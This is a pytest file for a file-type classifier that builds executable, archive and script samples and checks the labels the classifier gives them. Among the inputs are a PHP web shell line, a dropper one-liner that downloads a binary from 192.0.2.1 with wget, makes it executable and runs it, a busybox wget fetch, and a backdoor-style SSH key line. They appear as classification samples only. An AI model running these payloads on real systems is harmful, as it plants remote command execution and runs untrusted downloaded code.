"""File types, by samples made here; and any bytes at all."""

import bz2
import gzip
import io
import lzma
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from samovar.filetype import kind


def elf(bits: int, order: str, machine: int, form: int = 2) -> bytes:
    sign = "<" if order == "LSB" else ">"
    ident = b"\x7fELF" + bytes([bits // 32, 1 if order == "LSB" else 2, 1]) + bytes(9)
    return ident + struct.pack(sign + "HHI", form, machine, 1) + bytes(100)


def pe(machine: int, flags: int) -> bytes:
    head = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80)
    return head.ljust(0x80, b"\0") + b"PE\0\0" + struct.pack("<HHIIIHH", machine, 1, 0, 0, 0, 0, flags)


def tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("x"))
    return file.getvalue()


def zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("x", "y")
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "empty"),
        (elf(32, "MSB", 8), "ELF 32-bit MSB MIPS executable"),
        (elf(32, "LSB", 8), "ELF 32-bit LSB MIPS executable"),
        (elf(32, "LSB", 40), "ELF 32-bit LSB ARM executable"),
        (elf(64, "LSB", 62, 3), "ELF 64-bit LSB x86-64 shared object"),
        (elf(32, "LSB", 42), "ELF 32-bit LSB SuperH executable"),
        (elf(32, "MSB", 999, 9), "ELF 32-bit MSB machine 999 file"),
        (b"\x7fELF", "ELF"),
        (b"\x7fELF\1\7" + bytes(30), "ELF"),
        (pe(0x14C, 2), "PE Intel 80386 executable"),
        (pe(0x8664, 0x2002), "PE x86-64 DLL"),
        (b"MZ", "DOS executable"),
        (b"#!/bin/sh\ncd /tmp", "shell script"),
        (b"#! /usr/bin/env -S bash -e\n", "shell script"),
        (b"#!/usr/bin/python3.11\n", "Python script"),
        (b"#!/usr/bin/env python\n", "Python script"),
        (b"#!/usr/bin/perl -w\n", "Perl script"),
        (b"#!/opt/strange\n", "script"),
        (b"#!", "script"),
        (b"\n<?php system($_GET['c']); ?>", "PHP script"),
        (b"GIF89a", "GIF"),
        (b"cd /tmp || cd /var/run; wget http://192.0.2.1/a; chmod 777 a; ./a\n", "shell script"),
        (b"/bin/busybox wget http://192.0.2.1/a\n", "shell script"),
        (b"<!DOCTYPE html>\n<title>404</title>", "HTML"),
        (b"<?xml version='1.0'?>", "XML"),
        (b"ssh-rsa AAAAB3NzaC1yc2EAAAA mdrfckr\n", "SSH public key"),
        (b"hello world\n", "text"),
        ("gr\u00fc\u00dfe".encode(), "text"),
        (b"\x00\x01\x02\x03", "data"),
        (bytes(range(1, 32)), "data"),
        (gzip.compress(b"x", mtime=0), "gzip"),
        (bz2.compress(b"x"), "bzip2"),
        (lzma.compress(b"x"), "xz"),
        (tar(), "tar"),
        (zipped(), "zip"),
    ],
)  # fmt: skip
def test_kinds(data: bytes, expected: str) -> None:
    assert kind(data) == expected


def test_a_real_program() -> None:
    assert kind(Path(sys.executable).resolve().read_bytes()).startswith("ELF 64-bit LSB ")


@given(st.binary(max_size=400), st.sampled_from([b"", b"\x7fELF", b"MZ", b"#!", b"<?php", b"PK"]))
def test_anything_has_a_kind(data: bytes, start: bytes) -> None:
    assert 0 < len(kind(start + data)) < 80
